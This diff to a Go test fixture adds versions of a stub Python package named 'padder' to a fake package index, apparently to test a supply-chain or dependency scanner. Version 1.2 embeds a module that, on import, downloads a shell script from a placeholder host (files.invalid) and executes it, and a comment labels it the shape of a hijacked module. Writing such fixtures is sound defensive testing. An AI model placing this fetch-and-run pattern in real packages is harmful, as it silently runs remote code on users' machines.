@@ -72,6 +72,9 @@ func exampleIndex(t testing.TB) *stub.Index {
 		{Name: "pytz", Version: "2024.1", License: "MIT"}, {Name: "sqlparse", Version: "0.5.0", License: "BSD-3-Clause"},
 		{Name: "idna", Version: "3.10", License: "BSD-3-Clause"}, {Name: "packaging", Version: "24.2", License: "Apache-2.0"},
 		{Name: "six", Version: "1.16.0", License: "MIT"},
+		{Name: "padder", Version: "1.0", License: "MIT", Files: map[string]string{"padder/__init__.py": "def pad(s):\n    return s\n"}},
+		{Name: "padder", Version: "1.1", License: "MIT", Files: map[string]string{"padder/__init__.py": "def pad(s, n=1):\n    return s * n\n"}},
+		{Name: "padder", Version: "1.2", License: "MIT", Requires: []string{"six"}, Files: map[string]string{"padder/__init__.py": padderFetches}},
 	} {
 		x.Add(w, stub.About{})
 	}
@@ -80,6 +83,20 @@ func exampleIndex(t testing.TB) *stub.Index {
 	}
 	return x
 }
+
+// padderFetches is the shape of a module that was taken over: it fetches code when it
+// is imported, and runs it. Its host is nowhere.
+const padderFetches = `import subprocess
+import urllib.request
+
+code = urllib.request.urlopen("http://files.invalid/pad.sh").read()
+open("/tmp/pad.sh", "wb").write(code)
+subprocess.Popen(["sh", "/tmp/pad.sh"])
+
+
+def pad(s, n=1):
+    return s * n
+`
 
 // exampleSdists have no wheel: what they need is known without running them, or
 // not, and their builds need what is harmless, or not.
